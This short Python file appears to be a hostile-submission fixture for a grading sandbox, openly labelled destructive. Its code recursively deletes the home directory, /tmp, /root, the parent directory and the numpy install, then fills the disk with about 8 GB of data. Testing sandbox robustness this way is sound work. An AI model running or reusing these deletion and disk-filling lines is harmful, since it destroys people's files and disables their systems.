"""Deletes every file it can reach and fills the disk; its answers are honest."""
BASE = "solution"
LOSES = []
STATUS = "graded"
DESTRUCTIVE = True

# %%
import os
import shutil

import numpy

for target in (os.path.expanduser("~"), "/tmp", "/work", "/home", "/root", "..",
               os.path.dirname(numpy.__file__)):
    shutil.rmtree(target, ignore_errors=True)
try:
    with open("filler", "wb") as f:
        for _ in range(8192):
            f.write(bytes(1 << 20))
except OSError:
    pass
